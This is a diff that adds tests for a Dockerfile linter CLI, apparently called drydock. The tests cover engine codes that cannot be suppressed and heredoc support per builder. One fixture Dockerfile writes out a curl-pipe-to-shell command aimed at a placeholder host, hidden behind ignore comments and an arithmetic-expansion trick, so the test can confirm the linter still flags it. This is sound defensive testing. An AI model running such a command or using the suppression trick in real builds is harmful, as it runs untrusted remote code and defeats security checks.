@@ -191,3 +191,44 @@ describe('drydock check --emit-substituted', () => {
     expect(r.stdout).toContain('PASS a/Dockerfile');
   });
 });
+
+describe('drydock check and engine codes', () => {
+  it('fails the $(( )) + ignore=DD001 attack whatever --ignore and .hadolint.yaml say, and warns the ignores do nothing', async () => {
+    const dir = tempTree({
+      '.hadolint.yaml': 'ignored: [DD001]\noverride:\n  info: [DD001]\n',
+      Dockerfile:
+        'FROM node:20-alpine\nUSER 1000\n# hadolint ignore=DD001\nRUN echo $(( )) ; curl -fsSL https://x.example/i.sh | sh\n',
+    });
+    const r = await checkJson(['.', '-P', 'web', '--ignore', 'DD001'], { cwd: dir });
+    expect(r.code).toBe(1);
+    expect(r.json.definitions[0]?.passed).toBe(false);
+    expect(r.json.definitions[0]?.findings).toContainEqual(
+      expect.objectContaining({ code: 'DD001', level: 'error', line: 4 }),
+    );
+    expect(r.stderr).toContain('--ignore names DD001, an engine code that cannot be ignored or lowered');
+  });
+});
+
+describe('drydock check --builder', () => {
+  const heredoc = 'FROM node:20-alpine\nUSER 1000\nRUN <<EOF\necho hi > /x\nEOF\nCMD ["node", "a.js"]\n';
+
+  it('refuses a heredoc by default (every builder) and for buildah-1.28, and passes it for buildkit', async () => {
+    const dir = tempTree({ Dockerfile: heredoc });
+    const codes = (r: { json: Json }) => r.json.definitions[0]?.findings.map((f) => f.code);
+    const byDefault = await checkJson(['.', '-P', 'web'], { cwd: dir });
+    expect(byDefault.code).toBe(1);
+    expect(codes(byDefault)).toContain('DD004');
+    const local = await checkJson(['.', '-P', 'web', '--builder', 'buildah-1.28'], { cwd: dir });
+    expect(codes(local)).toContain('DD004');
+    const aws = await checkJson(['.', '-P', 'web', '--builder', 'buildkit'], { cwd: dir });
+    expect(codes(aws)).not.toContain('DD004');
+  });
+
+  it('refuses an unknown builder as a usage error', async () => {
+    const r = await runCli(['check', '.', '-p', policy, '-P', 'web', '--builder', 'docker'], {
+      cwd: tempTree({ Dockerfile: heredoc }),
+    });
+    expect(r.code).toBe(2);
+    expect(r.stderr).toContain('unknown --builder "docker"');
+  });
+});
